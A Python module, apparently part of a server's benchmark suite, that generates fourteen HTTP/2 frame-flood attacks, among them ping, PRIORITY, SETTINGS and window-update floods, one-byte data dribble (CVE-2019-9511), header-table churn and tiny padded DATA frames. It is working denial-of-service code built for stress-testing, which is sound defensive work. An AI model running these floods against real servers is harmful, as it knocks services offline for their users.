"""Floods of small frames, each of which makes the server work or answer."""

from functools import partial

from benchmarks.attacks.link import (
    CLASSIFY,
    WAIT_SECONDS,
    Attack,
    Link,
    Pieces,
    cancel,
    data,
    headers,
    priority,
    request,
)
from serving.transport import frames

_FRAMES_A_PIECE = 1000
_DATA_FRAMES_A_PIECE = 200
_BYTES_OF_AN_ANSWER = 500
_DRIBBLE_STREAMS = 64
_PADDING_BYTES = 255
_OPEN_CALLS = 1000
_UNREAD_ANSWERS = 250
_CALLS_A_PIECE = 32
_PRIORITY_UPDATE = 0x10  # of RFC 9218, section 7.1
_BYTES_OF_A_HALF_CALL = 400


def _frames(link: Link, frame: bytes) -> Pieces:
    """Send one frame again and again, after a call has begun."""
    yield from link.ready()
    yield headers(link.next_stream(), CLASSIFY)
    while True:
        yield frame * _FRAMES_A_PIECE


def _data(link: Link, payload: bytes, padding: int = 0) -> Pieces:
    """Send messages in tiny DATA frames. A call is given up when its message is complete."""
    yield from link.ready()
    flags, start, end = (frames.PADDED, bytes([padding]), bytes(padding)) if padding else (0, b"", b"")
    message = request(40)
    while True:
        stream, room = link.next_stream(), link.stream_window
        yield headers(stream, CLASSIFY)
        size = len(start + payload + end)
        count = min(len(message), room // size) if size else _FRAMES_A_PIECE
        for at in range(0, count, _DATA_FRAMES_A_PIECE):
            several = min(_DATA_FRAMES_A_PIECE, count - at)
            yield from link.room(size * several)
            pieces = (message[one : one + len(payload)] for one in range(at, at + several))
            yield b"".join(frames.frame(frames.DATA, flags, stream, start + piece + end) for piece in pieces)
        yield cancel(stream)


def _windows_of_open_calls(link: Link) -> Pieces:
    """Change the windows of many open calls again and again."""
    yield from link.ready()
    piece = request()[:_BYTES_OF_A_HALF_CALL]
    for _ in range(min(_OPEN_CALLS, link.max_streams)):
        yield from link.room(len(piece))
        stream = link.next_stream()
        yield headers(stream, CLASSIFY) + data(stream, piece, False)
    settings = [frames.settings({frames.INITIAL_WINDOW_SIZE: size}) for size in (2**16, 2**17)]
    while True:
        yield b"".join(settings) * _DATA_FRAMES_A_PIECE


def _windows_of_unread_answers(link: Link) -> Pieces:
    """Open the windows of many answers together, by one byte at a time."""
    yield from link.ready()
    message = request()
    while True:
        streams = [link.next_stream() for _ in range(min(_UNREAD_ANSWERS, link.max_streams))]
        for stream in streams:
            yield from link.room(len(message))
            yield headers(stream, CLASSIFY) + data(stream, message)
        yield WAIT_SECONDS
        for size in range(_BYTES_OF_AN_ANSWER):
            yield frames.settings({frames.INITIAL_WINDOW_SIZE: size})
        yield b"".join(cancel(stream) for stream in streams) + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})


def _tables(link: Link) -> Pieces:
    """Change the size of the table for the headers of answers before each call, to and fro."""
    yield from link.ready()
    message = request()
    changes = b"".join(frames.settings({frames.HEADER_TABLE_SIZE: size}) for size in (0, 4096))
    while True:
        yield from link.room(_CALLS_A_PIECE * len(message))
        streams = [link.next_stream() for _ in range(_CALLS_A_PIECE)]
        yield b"".join(changes + headers(stream, CLASSIFY) + data(stream, message) for stream in streams)


def _dribble(link: Link) -> Pieces:
    """Open the windows of many answers by one byte at a time (CVE-2019-9511)."""
    yield from link.ready()
    message = request()
    while True:
        streams = [link.next_stream() for _ in range(min(_DRIBBLE_STREAMS, link.max_streams))]
        yield from link.room(len(streams) * len(message))
        yield b"".join(headers(stream, CLASSIFY) + data(stream, message) for stream in streams)
        for _ in range(_BYTES_OF_AN_ANSWER):
            yield b"".join(frames.window_update(stream, 1) for stream in streams)
        yield b"".join(cancel(stream) for stream in streams)


FLOODS = (
    Attack("data dribble", _dribble, settings={frames.INITIAL_WINDOW_SIZE: 0}),
    Attack("ping flood", partial(_frames, frame=frames.frame(frames.PING, 0, 0, bytes(8)))),
    Attack("priority flood", partial(_frames, frame=priority(1))),
    Attack("empty SETTINGS", partial(_frames, frame=frames.settings({}))),
    Attack("windows of open calls", _windows_of_open_calls),
    Attack("windows of unread answers", _windows_of_unread_answers, settings={frames.INITIAL_WINDOW_SIZE: 0}),
    Attack("table sizes", _tables),
    Attack("priority updates", partial(_frames, frame=frames.frame(_PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1"))),
    Attack("window updates of 1 byte", partial(_frames, frame=frames.window_update(0, 1))),
    Attack("stream window updates of 1 byte", partial(_frames, frame=frames.window_update(1, 1))),
    Attack("unknown frames", partial(_frames, frame=frames.frame(0x2A, 0, 0))),
    Attack("empty DATA", partial(_data, payload=b"")),
    Attack("DATA of 1 byte", partial(_data, payload=b"x")),
    Attack("padding", partial(_data, payload=b"x", padding=_PADDING_BYTES)),
)
